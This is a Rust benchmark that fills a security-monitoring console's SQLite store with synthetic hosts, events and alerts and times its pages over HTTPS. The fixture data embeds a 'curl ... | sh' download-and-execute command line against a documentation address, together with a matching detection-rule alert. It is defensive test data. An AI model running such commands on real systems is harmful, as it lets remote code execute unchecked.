//! Console render benchmark (issue 6, Must show 3), run by
//! scripts/bench/console: a manager on SQLite filled with ALERTS alerts and
//! EVENTS events (bulk inserts), then N requests each to the dashboard, the
//! alert list and a host's page over HTTPS with a signed-in session;
//! p50/p95 per page. Baseline in the same run: the same pages on an empty
//! store. Usage: console_bench [ALERTS] [EVENTS] [REQUESTS]

use std::time::{Duration, Instant};

use anyhow::Result;
use sqlx::Row;
use vigie_manager::{Config, Manager, ManagerHandle};

const HOSTS: usize = 200;

async fn start(dir: &std::path::Path) -> Result<ManagerHandle> {
    let mut c = Config::new(dir);
    c.listen = "127.0.0.1:0".parse()?;
    c.agent_listen = "127.0.0.1:0".parse()?;
    Manager::start(c).await
}

/// Hosts, then events and alerts in large multi-row inserts.
async fn fill(m: &ManagerHandle, alerts: usize, events: usize) -> Result<()> {
    let pool = &m.core.store.pool;
    let now = chrono::Utc::now().timestamp_millis();
    for h in 0..HOSTS {
        sqlx::query("INSERT INTO hosts (id, org_id, hostname, os, kernel, agent_version, enrolled_at, last_seen, cert_fingerprint, cert_not_after, addresses) VALUES ($1, 'default', $2, 'Debian 12', '6.1.0', '0.1.0', $3, $3, $4, $3, '[\"10.0.0.1\"]')")
            .bind(format!("host-{h:04}"))
            .bind(format!("pc-{h:04}.mairie.local"))
            .bind(now)
            .bind(format!("fp-{h}"))
            .execute(pool)
            .await?;
    }
    let week = 7 * 86_400_000i64;
    bulk_insert(
        pool,
        "INSERT INTO events (org_id, id, host_id, time, dataset, action, process_name, process_pid, user_name, doc) VALUES ",
        events,
        |k| {
            let t = now - (k as i64 * 7919) % week;
            let doc = format!(
                r#"{{"@timestamp":{t},"event":{{"action":"exec","dataset":"vigie.process"}},"host":{{"name":"pc-{:04}"}},"process":{{"pid":{},"name":"bash","executable":"/usr/bin/bash","command_line":"bash -c 'curl -s http://203.0.113.{}/x | sh'","parent":{{"pid":1,"name":"sshd"}}}},"user":{{"name":"alice"}}}}"#,
                k % HOSTS,
                1000 + k % 30000,
                k % 250
            );
            format!("('default','ev-{k}','host-{:04}',{t},'vigie.process','exec','bash',{},'alice','{}')", k % HOSTS, 1000 + k % 30000, doc.replace('\'', "''"))
        },
    )
    .await?;
    let levels = ["low", "medium", "high", "critical"];
    let statuses = ["new", "acknowledged", "closed"];
    bulk_insert(
        pool,
        "INSERT INTO alerts (org_id, id, host_id, time, rule_id, rule_name, level, severity, status, doc) VALUES ",
        alerts,
        |k| {
            let t = now - (k as i64 * 6007) % week;
            let lvl = levels[k % 4];
            let doc = format!(
                r#"{{"@timestamp":{t},"rule":{{"id":"r-{}","name":"Suspicious download piped to a shell","level":"{lvl}","attack":["T1105"],"description":"A file downloaded and run at once."}},"vigie":{{"events":[{{"process":{{"pid":{},"name":"curl","command_line":"curl -s http://203.0.113.9/x","entity_id":"e{k}","parent":{{"pid":1,"name":"bash","entity_id":"p{k}"}}}}}}]}}}}"#,
                k % 50,
                2000 + k % 1000
            );
            format!("('default','al-{k:07}','host-{:04}',{t},'r-{}','Suspicious download piped to a shell (rule {})','{lvl}',{},'{}','{}')", k % HOSTS, k % 50, k % 50, k % 4 + 2, statuses[k % 3], doc.replace('\'', "''"))
        },
    )
    .await?;
    sqlx::query("ANALYZE").execute(pool).await?;
    Ok(())
}

/// `count` rows made by `row(k)` (a parenthesised VALUES tuple), inserted
/// 500 to a statement.
async fn bulk_insert(
    pool: &sqlx::AnyPool,
    head: &str,
    count: usize,
    row: impl Fn(usize) -> String,
) -> Result<()> {
    const ROWS: usize = 500;
    for start in (0..count).step_by(ROWS) {
        let rows: Vec<String> = (start..count.min(start + ROWS)).map(&row).collect();
        sqlx::query(&format!("{head}{}", rows.join(",")))
            .execute(pool)
            .await?;
    }
    Ok(())
}

struct Session {
    client: reqwest::Client,
    base: String,
}

async fn login(m: &ManagerHandle) -> Result<Session> {
    m.core
        .store
        .add_user("default", "bench", "a benchmark password", "analyst")
        .await?;
    let ca = reqwest::Certificate::from_pem(m.core.pki.ca_pem.as_bytes())?;
    let client = reqwest::Client::builder()
        .add_root_certificate(ca)
        .cookie_store(true)
        .redirect(reqwest::redirect::Policy::none())
        .build()?;
    let base = format!("https://localhost:{}", m.api_addr.port());
    let page = client
        .get(format!("{base}/console/login"))
        .send()
        .await?
        .text()
        .await?;
    let csrf = page
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|s| s.split('"').next())
        .unwrap_or_default()
        .to_string();
    let r = client
        .post(format!("{base}/console/login"))
        .form(&[
            ("csrf", csrf.as_str()),
            ("username", "bench"),
            ("password", "a benchmark password"),
        ])
        .send()
        .await?;
    anyhow::ensure!(r.status() == 303, "login failed: {}", r.status());
    Ok(Session { client, base })
}

/// p50 and p95 in ms of `n` sequential GETs (after 3 warm-up requests).
async fn measure(s: &Session, path: &str, n: usize) -> Result<(f64, f64)> {
    let mut times = Vec::with_capacity(n);
    for i in 0..n + 3 {
        let t = Instant::now();
        let r = s.client.get(format!("{}{}", s.base, path)).send().await?;
        anyhow::ensure!(r.status() == 200, "{path}: {}", r.status());
        let _ = r.bytes().await?;
        if i >= 3 {
            times.push(t.elapsed());
        }
    }
    times.sort();
    let ms = |d: Duration| d.as_secs_f64() * 1000.0;
    Ok((ms(times[n / 2]), ms(times[(n * 95 / 100).min(n - 1)])))
}

async fn pages(m: &ManagerHandle, n: usize) -> Result<Vec<(&'static str, f64, f64)>> {
    let s = login(m).await?;
    let host: Option<String> = sqlx::query("SELECT id FROM hosts ORDER BY id LIMIT 1")
        .fetch_optional(&m.core.store.pool)
        .await?
        .map(|r| r.get(0));
    // The empty store has no host: its baseline is the hosts page.
    let host_path = host
        .map(|h| format!("/console/hosts/{h}"))
        .unwrap_or_else(|| "/console/hosts".into());
    let mut out = Vec::new();
    for (name, path) in [
        ("dashboard", "/console/"),
        ("alert list", "/console/alerts"),
        (
            "alert list, filtered",
            "/console/alerts?status=new&level=high",
        ),
        ("host detail", &host_path),
    ] {
        let (p50, p95) = measure(&s, path, n).await?;
        out.push((name, p50, p95));
    }
    Ok(out)
}

#[tokio::main]
async fn main() -> Result<()> {
    let args: Vec<usize> = std::env::args()
        .skip(1)
        .filter_map(|a| a.parse().ok())
        .collect();
    let alerts = args.first().copied().unwrap_or(100_000);
    let events = args.get(1).copied().unwrap_or(1_000_000);
    let n = args.get(2).copied().unwrap_or(200);

    let empty_dir = tempfile::tempdir()?;
    let empty = start(empty_dir.path()).await?;
    let base = pages(&empty, n).await?;
    empty.shutdown().await;

    let dir = tempfile::tempdir()?;
    let m = start(dir.path()).await?;
    let t = Instant::now();
    fill(&m, alerts, events).await?;
    let fill_s = t.elapsed().as_secs_f64();
    let a = m.core.store.count("alerts", "default").await?;
    let e = m.core.store.count("events", "default").await?;
    let size: u64 = std::fs::read_dir(dir.path())?
        .filter_map(|f| f.ok())
        .filter(|f| f.file_name().to_string_lossy().starts_with("vigie.db"))
        .filter_map(|f| f.metadata().ok())
        .map(|m| m.len())
        .sum();
    println!(
        "store: {a} alerts, {e} events, {HOSTS} hosts, {:.0} MiB on disk (SQLite; filled in {fill_s:.0} s)",
        size as f64 / 1048576.0
    );
    let full = pages(&m, n).await?;
    println!("{n} requests per page, HTTPS on loopback, one signed-in session:");
    println!(
        "{:<22} {:>10} {:>10} {:>16} {:>10}",
        "page", "p50 ms", "p95 ms", "empty p95 ms", "ratio"
    );
    let mut worst: f64 = 0.0;
    for ((name, p50, p95), (_, _, b95)) in full.iter().zip(&base) {
        worst = worst.max(*p95);
        println!(
            "{name:<22} {p50:>10.1} {p95:>10.1} {b95:>16.1} {:>9.1}x",
            p95 / b95.max(0.001)
        );
    }
    println!(
        "worst p95: {worst:.1} ms (target <= 200 ms): {}",
        if worst <= 200.0 { "met" } else { "NOT met" }
    );
    m.shutdown().await;
    Ok(())
}
